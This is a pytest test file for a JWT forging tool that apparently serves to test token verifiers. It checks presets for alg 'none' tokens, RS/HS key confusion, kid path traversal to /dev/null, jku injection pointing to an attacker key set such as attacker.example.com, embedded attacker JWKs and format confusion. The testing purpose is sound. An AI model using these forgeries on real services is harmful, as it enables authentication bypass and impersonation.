"""A2: the presets. Each is an attack that a verifier with that fault would really fall for."""

import json

import pytest
from joserfc.jwk import OctKey
from starlette.testclient import TestClient

from axioms_fastapi.forge import create_app
from reading_tokens import claims_of, decoded, header_of, is_signed_by


def attack(client, preset, **request):
    response = client.post("/token", json={"vulnerability": preset, **request})
    assert response.status_code == 200, response.text
    return response


def test_alg_none(client):
    """alg_none says none and has an empty signature."""
    response = attack(client, "alg_none", sub="admin")
    assert header_of(response)["alg"] == "none"
    assert response.json()["access_token"].endswith(".")
    assert claims_of(response)["sub"] == "admin"


@pytest.mark.parametrize("variant", ["None", "NONE", "nOnE"])
def test_alg_none_variant(client, variant):
    """The word may be written in any case, by the variant or by the header."""
    assert header_of(attack(client, "alg_none", alg_none_variant=variant))["alg"] == variant
    assert header_of(attack(client, "alg_none", header={"alg": variant}))["alg"] == variant


def test_alg_none_with_a_signature(client):
    """A signature that is given stays."""
    assert attack(client, "alg_none", signature="AAAA").json()["access_token"].endswith(".AAAA")


@pytest.mark.parametrize("kty", ["RSA", "EC"])
def test_rs_hs_confusion(client, keys, kty):
    """The token is an HMAC keyed with the PEM of the published key, under that key's kid."""
    response = attack(client, "rs_hs_confusion", kty=kty)
    key = keys.select(kty)
    pem = key.private_key.as_pem(private=False)
    assert pem.startswith(b"-----BEGIN PUBLIC KEY-----")
    assert header_of(response) == {"alg": "HS256", "typ": "JWT", "kid": key.kid}
    assert is_signed_by(response.json()["access_token"], OctKey(pem, pem), "HS256")


def test_rs_hs_confusion_without_a_public_key(client):
    """An HMAC key has no public half to confuse anybody with."""
    response = client.post("/token?algorithm=HS256", json={"vulnerability": "rs_hs_confusion"})
    assert response.status_code == 400
    assert '"algorithm"' in response.json()["error_description"]


def test_kid_traversal(client):
    """The kid is a path to an empty file, unless another is given."""
    assert header_of(attack(client, "kid_traversal"))["kid"] == "../../../../../../dev/null"
    assert header_of(attack(client, "kid_traversal", header_kid="../x"))["kid"] == "../x"


def test_jku_injection(client):
    """The jku leads to the attacker's key set, whose key has signed the token; the log shows who followed it."""
    response = attack(client, "jku_injection")
    url = header_of(response)["jku"]
    assert url == "http://testserver/attacker/jwks.json"
    (jwk,) = client.get(url).json()["keys"]
    assert header_of(response)["kid"] == jwk["kid"]
    assert is_signed_by(response.json()["access_token"], jwk, "RS256")
    assert client.app.state.forge.requests.count("/attacker/jwks.json") == 1


def test_jku_injection_elsewhere(client):
    """Another jku may be given."""
    given = {"jku": "https://attacker.example.com/.well-known/jwks.json"}
    assert header_of(attack(client, "jku_injection", header=given))["jku"] == given["jku"]


def test_embedded_jwk(client, keys):
    """The key in the header is the attacker's, has no private member, and has signed the token."""
    response = attack(client, "embedded_jwk")
    jwk = header_of(response)["jwk"]
    assert is_signed_by(response.json()["access_token"], jwk, "RS256")
    assert "d" not in jwk
    assert not is_signed_by(response.json()["access_token"], keys.select().public_jwk(), "RS256")


def test_format_confusion(client):
    """A compact token becomes a flattened one; another format stays."""
    assert attack(client, "format_confusion").json()["format"] == "flattened"
    general = attack(client, "format_confusion", format="general").json()
    assert (general["format"], len(general["access_token"]["signatures"])) == ("general", 1)


def test_presets_come_before_modes(client):
    """A mode changes what a preset put there, unless it is excluded."""
    kept = attack(client, "kid_traversal", mode="fuzz", exclude=["header.kid"], seed=1, body={})
    assert header_of(kept)["kid"] == "../../../../../../dev/null"
    changed = {str(header_of(attack(client, "kid_traversal", mode="fuzz", seed=n, body={}))["kid"]) for n in range(5)}
    assert changed != {"../../../../../../dev/null"}


def test_attackers_of_two_forges():
    """Each forge has an attacker of its own."""
    moduli = {TestClient(create_app()).get("/attacker/jwks.json").json()["keys"][0]["n"] for _ in range(2)}
    assert len(moduli) == 2


def test_payload_is_untouched(client):
    """A preset changes header and signature, never a claim."""
    token = attack(client, "embedded_jwk", sub="alice").json()["access_token"]
    assert json.loads(decoded(token.split(".")[1]))["sub"] == "alice"
